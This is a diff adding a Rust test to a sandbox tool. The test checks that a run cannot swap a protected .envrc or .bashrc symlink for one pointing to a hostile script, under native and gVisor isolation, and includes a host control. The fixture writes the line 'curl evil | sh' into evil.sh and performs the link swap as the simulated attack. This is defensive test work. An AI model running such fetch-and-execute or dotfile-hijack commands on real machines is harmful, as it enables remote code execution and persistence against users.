@@ -533,3 +533,82 @@ fn persistence_points_linked_into_the_workspace_are_protected_there() {
         .assert_output_contains("wrote-bashrc")
         .assert_output_contains("wrote-plugin");
 }
+
+/// A protected path that is a symbolic link cannot be swapped for a link of the run's
+/// choosing: `rm .envrc; ln -s evil.sh .envrc` in a project, `rm ~/.bashrc; ln -s evil.sh
+/// ~/.bashrc` with the home as the workspace. Native refuses the new link as it is made;
+/// under gVisor nothing refuses it during the run and the sweep compared only kinds (a link
+/// is still a link), so the host later sourced `evil.sh`: now the link is quarantined, the
+/// original made again and `protected_path_replaced` reported. Control: the same swap on the
+/// host leaves the link to `evil.sh`.
+#[test]
+fn a_protected_link_cannot_be_swapped_for_another() {
+    let evil = "printf 'curl evil | sh\\n' > evil.sh";
+    for (what, home_ws) in [(".envrc", false), (".bashrc", true)] {
+        let fx = fixture();
+        let dir = if home_ws {
+            fx.home.clone()
+        } else {
+            fx.ws.clone()
+        };
+        let (original, link) = if home_ws {
+            mkdir(&dir.join("dotfiles"));
+            ("dotfiles/bashrc", dir.join(".bashrc"))
+        } else {
+            ("envrc.shared", dir.join(".envrc"))
+        };
+        write_file(&dir.join(original), "export A=1\n", 0o644);
+        let _ = std::fs::remove_file(&link);
+        std::os::unix::fs::symlink(original, &link).expect("link");
+        let script = format!(
+            "cd {} && {evil} && rm {what} && ln -s evil.sh {what}",
+            sh_quote(&dir)
+        );
+        let records = fx.records();
+        let inside = run_in(&fx, &dir, &dir, &records.opts(), &script);
+        inside.assert_failed_if_guarded();
+        let now = std::fs::read_link(&link).ok();
+        assert_ne!(
+            now.as_deref(),
+            Some(Path::new("evil.sh")),
+            "{what}: the swapped link stayed\n{}",
+            inside.run.describe()
+        );
+        let violations = records.violations();
+        let named = |kind: &str| {
+            violations.iter().any(|v| {
+                json_str(v, "path") == link.to_str().expect("utf-8")
+                    && (kind.is_empty() || json_str(v, "kind") == kind)
+            })
+        };
+        if attacks::creation_guarded() {
+            // Refused as it was made.
+            assert!(
+                named(""),
+                "{what}: {violations:#?}\n{}",
+                inside.run.describe()
+            );
+        } else {
+            assert_eq!(
+                now.as_deref(),
+                Some(Path::new(original)),
+                "{what}: not put back\n{}",
+                inside.run.describe()
+            );
+            assert!(
+                named("protected_path_replaced"),
+                "{what}: {violations:#?}\n{}",
+                inside.run.describe()
+            );
+        }
+        // Control: the same swap on the host.
+        std::fs::remove_file(&link).ok();
+        std::os::unix::fs::symlink(original, &link).expect("link");
+        fx.control(&script).outcome().assert_ok();
+        assert_eq!(
+            std::fs::read_link(&link).ok().as_deref(),
+            Some(Path::new("evil.sh")),
+            "control ({what})"
+        );
+    }
+}
